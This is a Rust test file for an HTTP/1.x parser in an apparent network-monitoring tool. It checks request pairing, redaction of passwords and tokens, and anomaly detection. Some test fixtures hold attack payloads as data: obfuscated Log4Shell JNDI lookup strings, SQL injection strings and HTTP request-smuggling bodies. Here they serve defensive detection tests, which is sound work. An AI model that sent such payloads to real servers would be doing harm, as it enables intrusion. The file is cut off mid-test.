mod bodies;

use super::super::parse::{Parse, Record, Step, feed};
use super::super::tries::{C, S, Turns, show, spoil, talk, unambiguous};
use super::*;
use crate::dataplane::flow::Side;

fn look(bytes: &[u8]) -> Match {
    probe(&Look { side: C, bytes, is_datagram: false, ports: [40000, 80], is_multicast: false, is_begun: [true; 2] })
}

const GET: &[u8] =
    b"GET /a?b=c HTTP/1.1\r\nHost: www.example.org:8080\r\nUser-Agent: curl/8\r\nReferer: http://x/\r\n\r\n";
const OK: &[u8] = b"HTTP/1.1 200 OK\r\nServer: nginx/1.2\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello";

#[test]
fn is_recognised_by_its_first_line() {
    for (bytes, wanted) in [
        (GET, Match::Yes),
        (OK, Match::Yes),
        (b"G", Match::Maybe),
        (b"GET", Match::Maybe),
        (b"GET /index.ht", Match::Maybe),
        (b"GETS /", Match::Maybe), // believed once its line is whole
        (b"GETS / \r\n", Match::No),
        (b"OPTIONS sip:a@b SIP/2.0\r\n", Match::No),
        (b"DESCRIBE rtsp://a/b RTSP/1.0\r\n", Match::No),
        // The end of the line tells: what is no target is a request's if it is one of HTTP.
        (b"OPTIONS rtsp://a/b", Match::Maybe),
        (b"OPTIONS rtsp://a/b RTSP/1.0\r\n", Match::No),
        (b"GET h0tp://a/b HTTP/1.1\r\n", Match::Yes),
        (b"GET /a HTTP/2.0\r\n", Match::No),
        (b"FROBNICATE /a HTTP/1.1\r\n", Match::Yes),
        (b"${${::-j}ndi:ldap://a.example/x} /test HTTP/1.1\r\n", Match::Yes),
        (b"${${::-j}ndi:ldap://a.exa", Match::Maybe),
        (b"\r\n\r\nGET / HTTP/1.0\r\n", Match::Yes),
        (b"\r\n\r\n", Match::Maybe),
        (b" GET / HTTP/1.1\r\n", Match::Yes),
        (b"GET\t/\tHTTP/1.1\r\n", Match::Yes),
        (b"get /x HTTP/1.1\r\n", Match::Yes),
        (b"GET /a\rb HTTP/1.1\r\n", Match::Yes),
        (b"GET /a HTTP/9.9\r\n", Match::Yes),
        (b"GET /a\0b HTTP/1.1\r\n", Match::No),
        (b"<13>x: \"GET / HTTP/1.1\" 200\r\n", Match::No),
        (b"CONNECT a.b:443 HTTP/1.1\r\n", Match::Yes),
        (b"HTTP/1.1 2", Match::Yes),
        (b"HTTP/1.", Match::Maybe),
        (b"HTTP/2", Match::No),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", Match::No),
        (b"\x16\x03\x01", Match::No),
        (b"", Match::Maybe),
    ] {
        assert_eq!(look(bytes), wanted, "{}", String::from_utf8_lossy(bytes));
    }
    let long = [b"GET /".as_slice(), &[b'x'; 400]].concat();
    assert_eq!(look(&long), Match::Yes);
    assert_eq!(
        probe(&Look { is_datagram: true, side: C, bytes: GET, ports: [1, 2], is_multicast: true, is_begun: [true; 2] }),
        Match::No
    );
}

#[test]
fn names_are_unambiguous() {
    unambiguous(FACTS, ANOMALIES);
}

#[test]
fn requests_and_responses_are_paired() {
    let chunked: &[u8] =
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\nA;x=y\r\n0123456789\r\n0\r\nX: y\r\n\r\n";
    let turns: Turns<'_> = &[
        (C, GET),
        (S, OK),
        (C, b"HEAD / HTTP/1.1\r\nHost: h\r\n\r\n"),
        (S, b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n"),
        (C, b"POST /p?user=u&password=secret&x=1 HTTP/1.1\r\nHost: h\r\nContent-Type: text/xml\r\nContent-Length: 4\r\n\r\nbody"),
        (S, chunked),
        (C, b"GET http://bob:hunter2@[::1]:81/z HTTP/1.0\r\n\r\n"),
        (S, b"HTTP/1.0 302 Found\r\nLocation: http://n/\r\nX-Powered-By: PHP/5\r\n\r\nuntil the end"),
    ];
    let (events, anomalies) = talk::<State>(turns, &[FACTS]);
    let wanted = [
        "transaction=0 method=GET protocol=HTTP/1.1 url=/a?b=c hostname=www.example.org port=8080 user_agent=curl/8 \
         referer=http://x/ status=200 server=nginx/1.2 content_type=text/html content_length=5 length=5",
        "transaction=1 method=HEAD protocol=HTTP/1.1 url=/ hostname=h status=200 content_length=500 length=0",
        "transaction=2 method=POST protocol=HTTP/1.1 url=/p?user=u&password=*&x=1 secret_sent=1 hostname=h \
         request_content_type=text/xml request_length=4 status=200 length=13",
        "transaction=3 method=GET protocol=HTTP/1.0 hostname=[::1] port=81 username=bob url=[::1]:81/z status=302 \
         location=http://n/ powered_by=PHP/5 forwarded=1 length=13",
    ];
    assert_eq!((events, anomalies), (wanted.map(str::to_owned).to_vec(), vec![]));
    spoil::<State>(turns);
}

#[test]
fn pipelined_requests_keep_their_numbers() {
    let two = b"GET /1 HTTP/1.1\r\nHost: a\r\n\r\nGET /2 HTTP/1.1\r\nHost: a\r\n\r\n";
    let answers = b"HTTP/1.1 404 No\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx";
    let (events, _) = talk::<State>(&[(C, two), (S, answers), (C, GET), (S, OK)], &[FACTS]);
    assert_eq!(
        events[..4],
        [
            "transaction=0 method=GET protocol=HTTP/1.1 url=/1 hostname=a",
            "transaction=1 method=GET protocol=HTTP/1.1 url=/2 hostname=a",
            "transaction=0 protocol=HTTP/1.1 status=404 content_length=0 length=0",
            "transaction=1 protocol=HTTP/1.1 status=200 content_length=1 length=1",
        ]
    );
    assert!(events[4].starts_with("transaction=2 method=GET") && events[4].contains("status=200"), "{}", events[4]);
}

#[test]
fn a_response_to_nothing_is_told_and_the_next_ones_are_paired() {
    let not_found = b"HTTP/1.1 404 No\r\nContent-Length: 0\r\n\r\n";
    // Nothing is odd where the capture begins with the server, which so looks like the originator, or the client's side was seen to begin.
    for (server, client) in [(C, S), (S, C)] {
        let (events, anomalies) = talk::<State>(&[(server, OK), (client, GET), (server, not_found)], &[FACTS]);
        assert_eq!((events.len(), anomalies), (2, vec![]), "{events:?}");
        assert!(events[0].starts_with("transaction=0 protocol=HTTP/1.1 status=200"), "{events:?}");
        assert!(events[1].starts_with("transaction=1 method=GET") && events[1].contains("status=404"), "{events:?}");
    }
    // The client's packets go another way.
    let (events, anomalies) = talk::<State>(&[(S, OK), (S, not_found), (S, OK)], &[FACTS]);
    assert_eq!((events.len(), anomalies), (3, vec![]));
    assert!(events[2].starts_with("transaction=2 "), "{events:?}");
    let (_, anomalies) = talk::<State>(&[(C, GET), (S, OK), (S, not_found), (S, OK)], &[FACTS]);
    assert_eq!(anomalies, ["unable_to_match_response_to_request"], "once");
    let timeout = b"HTTP/1.0 408 Request Time-out\r\nContent-Length: 0\r\n\r\n";
    assert_eq!(talk::<State>(&[(S, timeout)], &[FACTS]).1, [""; 0], "may be sent unasked");
}

/// Lookups are told by the field that has them, and a password of one is not kept (log4shell: `alice:${jndi:ldap://...}`).
/// A request with a body, whole or in a segment of its own; what is said of its inputs.
#[test]
fn inputs_that_are_sql_are_named_and_not_kept() {
    let found = |fields: &str, body: &str, is_apart: bool| {
        let head = format!("POST /a HTTP/1.1\r\nHost: h\r\n{fields}Content-Length: {}\r\n\r\n", body.len());
        let whole = format!("{head}{body}");
        let apart = [(C, head.as_bytes()), (C, body.as_bytes()), (S, OK), (C, GET), (S, OK)];
        let at_once = [(C, whole.as_bytes()), (S, OK), (C, GET), (S, OK)];
        let turns: Turns<'_> = if is_apart { &apart } else { &at_once };
        let (events, anomalies) = talk::<State>(turns, &[FACTS]);
        assert_eq!((events.len(), anomalies), (2, vec![]), "{fields} {body}: {events:?}");
        assert!(events[1].contains("url=/a?b=c"), "{events:?}");
        assert!(!events[0].contains("hunter2"), "{events:?}");
        spoil::<State>(turns);
        let of = events[0].split(" injection").skip(1).map(|part| part.split(' ').next().unwrap_or_default());
        of.filter(|part| !part.starts_with("_hash")).collect::<Vec<_>>().join(" ")
    };
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let json = "Content-Type: application/json; charset=utf-8\r\n";
    let parts = "Content-Type: multipart/form-data; boundary=b\r\n";
    for is_apart in [false, true] {
        for (fields, body, wanted) in [
            (form, "password=hunter2&id=1'+union+select+1", "=body _sure=1"),
            (form, "user=hunter2'--&x=1", "=body"),
            (json, "{\"pass\": \"hunter2\", \"id\": \"1' or '1'='1\"}", "=body"),
            (
                parts,
                "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1;drop table x\r\n--b--",
                "=body _sure=1",
            ),
            ("Cookie: sid=hunter2; id=1%20union%20select%201\r\n", "", "=cookie _sure=1"),
            (form, "text=how+to+select+names+from+users&password=hunter2", ""),
            (json, "{\"text\": \"SELECT a FROM b WHERE c='d' OR 1=1\"}", ""),
            ("Cookie: sid=aHVudGVyMg==; theme=dark\r\n", "", ""),
            ("Content-Type: application/octet-stream\r\n", "id=1'+union+select+1", ""),
        ] {
            assert_eq!(found(fields, body, is_apart), wanted, "{fields} {body}");
        }
    }
}

#[test]
fn fields_with_a_lookup_are_named() {
    for (field, wanted) in [
        ("X-Api-Version: ${${lower:j}ndi:ldap://h/a}", " lookup=X-Api-Version"),
        ("Cookie: a=1; b=${jndi:rmi://h/a}", " lookup=Cookie"),
        (
            "Authorization: Basic YWxpY2U6JHtqbmRpOmxkYXA6Ly9oL2F9",
            " auth_scheme=Basic lookup=authorization username=alice",
        ),
        ("Accept: ${a}\r\nX-B: ${b}", " lookup=Accept"),
        ("X-Price: $5 {or so}", ""),
        ("X-Shell: $(id)", ""),
    ] {
        let request = format!("GET / HTTP/1.1\r\nHost: h\r\n{field}\r\n\r\n");
        let (events, _) = talk::<State>(&[(C, request.as_bytes())], &[FACTS]);
        assert_eq!(events, [format!("transaction=0 method=GET protocol=HTTP/1.1 url=/ hostname=h{wanted}")]);
    }
}

#[test]
fn user_names_but_no_passwords() {
    for (field, wanted) in [
        ("Basic Ym9iOmh1bnRlcjI=", "auth_scheme=Basic username=bob"),
        ("basic  Ym9i", "auth_scheme=basic"),
        ("Digest realm=\"r\", username=\"al ice\", nonce=\"n\"", "auth_scheme=Digest username=al ice"),
        ("Bearer c2VjcmV0", "auth_scheme=Bearer"),
        ("c2VjcmV0", ""),
        ("Bearer c2VjcmV0\r\nProxy-Authorization: Basic Ym9iOmh1bnRlcjI=", {
            "auth_scheme=Bearer proxy_auth_scheme=Basic proxy_username=bob"
        }),
    ] {
        let request = format!("GET / HTTP/1.1\r\nHost: h\r\nAuthorization: {field}\r\n\r\n");
        let (events, _) = talk::<State>(&[(C, request.as_bytes())], &[FACTS]);
        let wanted = format!("transaction=0 method=GET protocol=HTTP/1.1 url=/ hostname=h {wanted}");
        assert_eq!(events, [wanted.trim_end()]);
        assert!(!events[0].contains("hunter2") && !events[0].contains("c2VjcmV0"));
    }
}

#[test]
fn switches_are_told_and_nothing_behind_them_is_taken() {
    let upgrade = b"GET /ws HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: chat, mqtt\r\n\r\n";
    let answer = b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: mqtt\r\n\r\n";
    for (request, answer, into) in [
        (&upgrade[..], &answer[..], Protocol::WebSocket),
        (
            b"GET / HTTP/1.1\r\nHost: h\r\nUpgrade: h2c\r\n\r\n",
            b"HTTP/1.1 101 S\r\nUpgrade: h2c\r\n\r\n",
            Protocol::Http2,
        ),
        (
            b"CONNECT a:443 HTTP/1.1\r\nHost: a:443\r\n\r\n",
            b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\n",
            Protocol::Unknown,
        ),
    ] {
        let (mut state, mut out) = (State::default(), Record::default());
        assert_eq!(feed(&mut state, C, request, 5, &mut out), Step::Took(request.len()));
        assert_eq!(state.turns_into(), None);
        assert_eq!(feed(&mut state, S, answer, 5, &mut out), Step::Took(answer.len()));
        assert_eq!(state.turns_into(), Some(into));
        assert_eq!((state.step(C, b"\x81\x80", &mut out), state.step(S, b"\x81", &mut out)), (Step::Done, Step::Done));
        assert_eq!(out.events.len(), 1, "{}", show(&out.events[0], &[FACTS]));
    }
    let (events, _) = talk::<State>(&[(C, upgrade), (S, answer), (S, b"\x81\x00")], &[FACTS]);
    assert!(events[0].ends_with("websocket_protocol=chat, mqtt status=101 websocket_protocol=mqtt"), "{events:?}");
}

/// Of whom a `Server` is: not of a proxy that passes it on, nor of a cache.
#[test]
fn an_answer_that_was_passed_on_says_so() {
    let ok = |field: &str| format!("HTTP/1.1 200 OK\r\nServer: nginx/1.10.0\r\n{field}Content-Length: 0\r\n\r\n");
    let (absolute, plain) =
        ("GET http://out.example/ HTTP/1.1\r\nHost: h\r\n\r\n", "GET / HTTP/1.1\r\nHost: h\r\n\r\n");
    for (request, answer, forwarded) in [
        (plain, ok(""), false),
        (plain, ok("Via: 1.1 squid\r\n"), true),
        (plain, ok("X-Cache: HIT\r\nvia: 1.1 a\r\n"), true),
        (absolute, ok(""), true),
        (absolute, ok("Via: 1.1 squid\r\n"), true),
        ("OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n", ok(""), false),
    ] {
        let (events, _) = talk::<State>(&[(C, request.as_bytes()), (S, answer.as_bytes())], &[FACTS]);
        assert_eq!(events[0].matches("forwarded=1").count(), usize::from(forwarded), "{request} {answer}: {events:?}");
    }
    let pipelined = [absolute, absolute].concat();
    let (events, _) = talk::<State>(&[(C, pipelined.as_bytes()), (S, ok("").as_bytes())], &[FACTS]);
    assert!(events[2].contains("server=nginx/1.10.0 forwarded=1"), "{events:?}");
}

#[test]
fn a_password_in_a_target_is_told_without_it() {
    for (target, told) in [
        ("/login?user=bob&password=Hunter2", true),
        ("/login?PassWd=Hunter2", true),
        ("/login?x_pwd=Hunter2;a=b", true),
        ("/login?password=", false),
        ("/login?password", false),
        ("/passwords?q=1", false),
    ] {
        let request = format!("GET {target} HTTP/1.1\r\nHost: h\r\nReferer: http://h/?password=x\r\n\r\n");
        let (events, _) = talk::<State>(&[(C, request.as_bytes())], &[FACTS]);
        assert_eq!(events[0].contains("secret_sent=1"), told, "{events:?}");
    }
}

#[test]
fn no_secret_is_told() {
    let token = "t".repeat(65);
    let long = format!("http://bob:{}@h/x", "Hunter2PW".repeat(URI_MAX / 8));
    let get = |target: &str, field: &str| format!("{target} HTTP/1.1\r\nHost: x\r\n{field}\r\n");
    for (request, wanted) in [
        (get("CONNECT bob:Hunter2PW@h:443", ""), "hostname=h port=443 url=h:443"),
        (get("CONNECT bob:Hunter2/P@W@h:443", ""), "hostname=h port=443 url=h:443"),
        (get("GET bob:Hunter2PW@h:443", ""), "url=h:443 hostname=x"),
        (get("GET http://bob:Hunter2PW@h/x", ""), "hostname=h username=bob url=h/x"),
        (get(&format!("GET {long}"), ""), "hostname=h username=bob url=h/x"),
        (get("GET /bot123456:Hunter2PW/getMe", "Referer: http://h/services/T00000000/B00000000/Hunter2PW\r\n"), {
            "url=/bot123456:*/getMe hostname=x referer=http://h/services/T00000000/B00000000/*"
        }),
        (get("GET http://ghp_Hunter2PW0123456789@h/x", ""), "hostname=h username=* url=h/x"),
        (get("GET /", "Authorization: Basic Z2hwX0h1bnRlcjJQVzAxMjM0NTY3ODk6eA==\r\n"), {
            "url=/ hostname=x auth_scheme=Basic username=*"
        }),
        (get("GET /", "Sec-WebSocket-Protocol: base64url.Bearer.authorization.k8s.io.dG9r, a.k8s.io\r\n"), {
            "url=/ hostname=x websocket_protocol=a.k8s.io"
        }),
        (get("GET /", &format!("Sec-WebSocket-Protocol: {token},authX\r\n")), "url=/ hostname=x"),
        (
            get("GET /", "Sec-WebSocket-Protocol: bearer, Hunter2PW, chat\r\n"),
            "url=/ hostname=x websocket_protocol=chat",
        ),
        (get("GET /", "Sec-WebSocket-Protocol: chat,access_token,Hunter2PW\r\n"), {
            "url=/ hostname=x websocket_protocol=chat"
        }),
        (get("GET /", "Sec-WebSocket-Protocol: eyJHunter2PWeyJhbGciOi.x.y, mqtt\r\n"), {
            "url=/ hostname=x websocket_protocol=mqtt"
        }),
        (
            get("GET /", "Sec-WebSocket-Protocol: mqtt, Hunter2PWx7Hq2LpZ9\r\n"),
            "url=/ hostname=x websocket_protocol=mqtt",
        ),
        (get("GET /", "Authorization: Digest username=\"ghp_Hunter2PW0123456789\"\r\n"), {
            "url=/ hostname=x auth_scheme=Digest username=*"
        }),
    ] {
        let (events, _) = talk::<State>(&[(C, request.as_bytes())], &[FACTS]);
        assert!(events[0].ends_with(&format!("protocol=HTTP/1.1 {wanted}")), "{events:?}");
        assert!(!events[0].contains("Hunter2"), "{events:?}");
    }
    // A server that says the token again.
    let offer =
        get("GET /", "Connection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: bearer, Hunter2PW\r\n");
    let answer = b"HTTP/1.1 101 S\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: Hunter2PW\r\n\r\n";
    let (events, _) = talk::<State>(&[(C, offer.as_bytes()), (S, answer)], &[FACTS]);
    assert!(events[0].contains("status=101") && !events[0].contains("Hunter2"), "{events:?}");
    let (events, _) = talk::<State>(&[(C, b"GET / HTTP/1.1\r\nHost: bob:Hunter2PW@h:81\r\n\r\n")], &[FACTS]);
    assert!(events[0].ends_with("hostname=h port=81"), "{events:?}");
}

#[test]
fn what_is_wrong_has_a_name() {
    let many: String = (0..=FIELDS_MAX).map(|at| format!("x{at}: y\r\n")).collect();
    let long = format!("X: {}\r\n", "y".repeat(HEAD_MAX));
    let uri = "u".repeat(URI_MAX);
    for (request, wanted) in [
        ("GET / HTTP/1.1\r\n\r\n", "host_missing"),
        ("GET / HTTP/1.1\r\nHost: a\r\nhost: b\r\n\r\n", "host_repeated"),
        ("GET / HTTP/1.0\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n", "lengths_differ"),
        ("GET / HTTP/1.0\r\nContent-Length: +1\r\n\r\n", "length_invalid"),
        (
            "GET / HTTP/1.1\r\nHost: h\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "length_and_coding",
        ),
        ("GET / HTTP/1.0\r\nTransfer-Encoding: xchunked\r\n\r\n", "coding_odd"),
        ("GET / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "coding_odd"),
        ("GET / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", "chunk_invalid"),
        ("GET / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nabc", "chunk_invalid"),
        ("GET / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n1;\nx\r\na\r\n0\r\n\r\n", "bare_line_feed"),
        ("GET / HTTP/1.0\r\nX : y\r\n\r\n", "blank_before_colon"),
        ("GET / HTTP/1.0\r\nX: y\r\n z\r\n\r\n", "folded_field"),
        ("GET / HTTP/1.0\r\nX y\r\n\r\n", "field_invalid"),
        ("GET / HTTP/1.0\r\nX: y\0z\r\n\r\n", "control_byte"),
        ("GET / HTTP/1.0\nX: y\n\n", "bare_line_feed"),
        ("BREW / HTTP/1.0\r\n\r\n", "method_unknown"),
        ("GET /a HTTP/1.0.8\r\n\r\n", "request_line_invalid"),
        ("GET / HTTP/1.0\r\n\r\nGET /2\r\n\r\n", "request_line_invalid"),
        (&format!("GET / HTTP/1.0\r\n{many}\r\n"), "header_too_long"),
        (&format!("GET / HTTP/1.0\r\n{long}\r\n"), "header_too_long"),
        (&format!("GET /{uri} HTTP/1.0\r\n\r\n"), "uri_too_long"),
        (&"GET / HTTP/1.0\r\n\r\n".repeat(usize::from(PENDING_MAX) + 1), "pending_too_many"),
    ] {
        let (_, anomalies) = talk::<State>(&[(C, request.as_bytes())], &[FACTS]);
        assert_eq!(anomalies, [wanted], "{request:.60}");
    }
    let (events, _) = talk::<State>(&[(C, OK), (S, GET)], &[FACTS]);
    assert!(events[0].contains("status=200") && events[1].contains("method=GET"), "turned: {events:?}");
    assert_eq!(talk::<State>(&[(C, GET), (S, b"what?")], &[FACTS]).1, ["status_line_invalid"]);
}

/// Heads that httparse (the reference in Rust) takes are taken with the same method, target, version and status; those that
/// it refuses are told as an anomaly or are on the list of what we read and it does not.
#[test]
fn heads_are_read_as_httparse_reads_them() {
    let base = b"POST /x/y?z HTTP/1.1\r\nHost: example.org\r\nContent-Length: 0\r\nA: b\r\n\r\n";
    let (mut compared, mut refused) = (0, 0);
    let target = b"POST ".len()..b"POST /x/y?z".len();
    for at in 0..base.len() {
        for byte in (0..=255u8).filter(|byte| *byte != base[at]) {
            let mut head = base.to_vec();
            head[at] = byte;
            let mut place = [httparse::EMPTY_HEADER; 16];
            let mut theirs = httparse::Request::new(&mut place);
            let result = theirs.parse(&head);
            let (mut state, mut out) = (State::default(), Record::default());
            feed(&mut state, C, &head, head.len(), &mut out);
            state.end(&mut out);
            let ours = out.events.first();
            match result {
                Ok(httparse::Status::Complete(_)) => {
                    let ours = ours.unwrap_or_else(|| panic!("{:?}", String::from_utf8_lossy(&head)));
                    compared += 1;
                    assert_eq!(ours.get(METHOD), theirs.method.map(str::as_bytes));
                    assert_eq!(ours.get(URL), theirs.path.map(str::as_bytes));
                    let host =
                        theirs.headers.iter().find(|one| one.name.eq_ignore_ascii_case("host")).map(|one| one.value);
                    let host = host.map(|host| host.split(|byte| *byte == b':').next().unwrap_or_default());
                    assert_eq!(ours.get(HOSTNAME), host, "{:?}", String::from_utf8_lossy(&head));
                }
                Ok(httparse::Status::Partial) => {}
                Err(error) => {
                    refused += 1;
                    let is_read = ours.is_some() && out.anomalies.is_empty();
                    // What servers take and the grammar does not: control bytes in a value, and in the line of the request
                    // bytes beyond ASCII or a blank in the target, and versions to come.
                    let is_listed = match error {
                        httparse::Error::HeaderValue => byte.is_ascii_control(),
                        httparse::Error::Token => target.contains(&at) && byte >= 0x80,
                        httparse::Error::Version => byte.is_ascii_digit() || target.contains(&at) && byte == b' ',
                        _ => false,
                    };
                    assert!(!is_read || is_listed, "{error:?}: {:?}", String::from_utf8_lossy(&head));
                }
            }
        }
    }
    assert!(compared > 6_000 && refused > 10_000, "{compared} {refused}");
}

#[test]
fn a_flood_of_heads_stays_bounded() {
    let mut state = State::default();
    let mut out = Record::default();
    let flood = "GET / HTTP/1.1\r\nHost: h\r\n\r\n".repeat(5_000);
    feed(&mut state, Side::Originator, flood.as_bytes(), 1000, &mut out);
    assert_eq!(out.anomalies, ["pending_too_many"]);
    assert_eq!(out.events.len(), 4_999);
}

#[test]
fn what_servers_read_against_the_grammar_is_read_and_told() {
    for (line, wanted, odd) in [
        (
            &b"${${::-j}ndi:ldap://a.example/x} /t HTTP/1.1"[..],
            ("${${::-j}ndi:ldap://a.example/x}", "/t"),
            &["method_unknown"][..],
        ),
        (b" GET / HTTP/1.1", ("GET", "/"), &["request_line_invalid"]),
        (b"GET\t/\tHTTP/1.1", ("GET", "/"), &["request_line_invalid"]),
        (b"GET /a\rb HTTP/1.1", ("GET", "/a\rb"), &["request_line_invalid", "control_byte"]),
        (b"get /x HTTP/1.1", ("get", "/x"), &["method_unknown"]),
        (b"GET /x HTTP/9.9", ("GET", "/x"), &[]),
    ] {
        let request = [line, b"\r\nHost: h\r\n\r\n"].concat();
        let (mut state, mut out) = (State::default(), Record::default());
        feed(&mut state, C, &request, 7, &mut out);
        state.end(&mut out);
        let text = |fact| String::from_utf8_lossy(out.events[0].get(fact).unwrap_or_default()).into_owned();
        assert_eq!((text(METHOD).as_str(), text(URL).as_str()), wanted);
        assert_eq!(out.anomalies, odd, "{wanted:?}");
    }
}

/// Requests that were read of what a client sent, by their targets, and anomalies.
fn targets(stream: &[u8]) -> (Vec<String>, Vec<&'static str>) {
    let (events, anomalies) = talk::<State>(&[(C, stream)], &[FACTS]);
    let target = |event: &String| event.split_once(" url=").map(|(_, rest)| rest.split(' ').next().unwrap().to_owned());
    (events.iter().filter_map(target).collect(), anomalies)
}

/// Where implementations differ on where a body ends, no request hides in it: neither behind the one length nor behind
/// the other.
#[test]
fn a_request_in_what_may_be_a_body_is_read() {
    let smuggled = "GET /smuggled HTTP/1.1\r\nHost: h\r\n\r\n";
    let next = "GET /next HTTP/1.1\r\nHost: h\r\n\r\n";
    for (fields, body, odd) in [
        // CL.TE, TE.CL, and a coding that only one of two knows.
        ("Content-Length: 60\r\nTransfer-Encoding: chunked", format!("0\r\n\r\n{smuggled}"), "length_and_coding"),
        (
            "Content-Length: 4\r\nTransfer-Encoding: chunked",
            format!("23\r\n{smuggled}\r\n0\r\n\r\n"),
            "length_and_coding",
        ),
        (
            "Content-Length: 4\r\nTransfer-Encoding: xchunked",
            format!("23\r\n{smuggled}\r\n0\r\n\r\n"),
            "length_and_coding",
        ),
        ("Content-Length: 35\r\nContent-Length: 0", smuggled.to_owned(), "lengths_differ"),
        ("Content-Length: 37\r\nContent-Length: 2", format!("x={smuggled}"), "lengths_differ"),
        ("Content-Length: +35", smuggled.to_owned(), "length_invalid"),
        ("Content-Length : 35", smuggled.to_owned(), "blank_before_colon"),
        ("X: y\rContent-Length: 35", smuggled.to_owned(), "control_byte"),
        ("Transfer-Encoding: chunked", format!("0;\nx\r\n\r\n{smuggled}"), "bare_line_feed"),
        ("Transfer-Encoding: chunked", format!("3\r\nabcd\r\n{smuggled}"), "chunk_invalid"),
    ] {
        let stream = format!("POST /a HTTP/1.1\r\nHost: h\r\n{fields}\r\n\r\n{body}{next}");
        let (targets, anomalies) = targets(stream.as_bytes());
        assert_eq!(targets, ["/a", "/smuggled", "/next"], "{fields}");
        assert!(anomalies.contains(&odd), "{fields}: {anomalies:?}");
    }
    // Nothing else is in doubt: a body is passed over, whatever it holds.
    let plain = format!("POST /a HTTP/1.1\r\nHost: h\r\nContent-Length: 35\r\n\r\n{smuggled}{next}");
    assert_eq!(targets(plain.as_bytes()), (vec!["/a".to_owned(), "/next".to_owned()], vec![]));
}

/// What servers refuse, or take though it is longer or odder than we read, does not end the reading.
#[test]
fn a_header_of_any_length_is_read_to_its_end() {
    let next = "GET /next HTTP/1.1\r\nHost: h2\r\n\r\n";
    let cookie = format!("Cookie: {}\r\n", "c".repeat(20_000));
    let fields: String = (0..40).map(|at| format!("X-{at}: {}\r\n", "b".repeat(900))).collect();
    for (head, body) in [
        (format!("GET /first HTTP/1.1\r\n{cookie}Host: h1\r\n\r\n"), ""),
        (format!("GET /first HTTP/1.1\r\n{fields}Host: h1\r\n\r\n"), ""),
        (format!("POST /first HTTP/1.1\r\n{cookie}Host: h1\r\nContent-Length: 5\r\n\r\n"), "GET /"),
        (format!("POST /first HTTP/1.1\r\nContent-Length: 5\r\n{fields}Host: h1\r\n\r\n"), "GET /"),
        (format!("POST /first HTTP/1.1\r\n{fields}Host: h1\r\nTransfer-Encoding: chunked\r\n\r\n"), {
            "3\r\nabc\r\n0\r\n\r\n"
        }),
    ] {
        let stream = format!("{head}{body}{next}");
        let (events, anomalies) = talk::<State>(&[(C, stream.as_bytes())], &[FACTS]);
        assert_eq!((events.len(), anomalies), (2, vec!["header_too_long"]), "{head:.40}");
        assert!(events[0].contains("url=/first") && events[0].contains("hostname=h1"), "{events:?}");
        assert!(events[1].contains("url=/next") && events[1].contains("hostname=h2"), "{events:?}");
    }
    let long = format!("GET /{} HTTP/1.1\r\nHost: h1\r\n\r\n{next}", "a".repeat(20_000));
    let (events, anomalies) = talk::<State>(&[(C, long.as_bytes())], &[FACTS]);
    assert_eq!(anomalies, ["header_too_long", "uri_too_long"]);
    assert!(events[0].contains("method=GET url=/aaa") && events[0].ends_with("hostname=h1"), "{events:?}");
    assert!(events[1].contains("url=/next"), "{events:?}");
    let none = format!("GET /first HTTP/1.1\r\n{fields}\r\n");
    assert_eq!(talk::<State>(&[(C, none.as_bytes())], &[FACTS]).1, ["header_too_long", "host_missing"]);
}

#[test]
fn behind_a_request_that_is_none_the_next_one_is_read() {
    let next = "GET /next HTTP/1.1\r\nHost: h\r\n\r\n";
    let long = format!("GET /long HTTP/1.1\r\nHost: h\r\nX: {}\r\n\r\n{next}", "y".repeat(HEAD_MAX));
    assert_eq!(targets(long.as_bytes()).0, ["/long", "/next"]);
    let odd = format!("GET /a HTTP/1.1\r\nHost: h\r\n\r\nwhat\x01is this\r\n{next}");
    assert_eq!(targets(odd.as_bytes()).0, ["/a", "/next"]);
}

/// An answer of Elasticsearch 7 and 1, and of OpenSearch, to a request for `/`.
#[test]
fn a_search_engine_says_what_it_is() {
    let answer = |head: &str, body: &str| {
        format!(
            "HTTP/1.1 200 OK\r\n{head}Content-Type: application/json; charset=UTF-8\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let body = |tagline: &str| {
        format!(
            "{{\n  \"name\" : \"n\",\n  \"cluster_name\" : \"logs\",\n  \"version\" : {{\n    \"number\" : \"7.17.3\",\n    \
             \"build_flavor\" : \"default\"\n  }},\n  \"tagline\" : \"{tagline}\"\n}}\n"
        )
    };
    let get = |url: &str| format!("GET {url} HTTP/1.1\r\nHost: h\r\n\r\n");
    let named = "X-elastic-product: Elasticsearch\r\n";
    let version = " store_version=7.17.3 cluster_name=logs";
    for (url, head, tagline, wanted) in [
        ("/", "", "You Know, for Search", Some((" store=elasticsearch", version))),
        ("/", named, "You Know, for Search", Some((" store=elasticsearch", version))),
        ("/", "", "The OpenSearch Project: https://opensearch.org/", Some((" store=opensearch", version))),
        ("/_cat/indices", named, "none", Some((" store=elasticsearch", ""))),
        ("/shop", "", "You Know, for Search", None),
        ("/", "", "Welcome", None),
    ] {
        let body = body(tagline);
        let (request, answer) = (get(url), answer(head, &body));
        let turns: Turns<'_> = &[(C, request.as_bytes()), (S, answer.as_bytes()), (C, GET), (S, OK)];
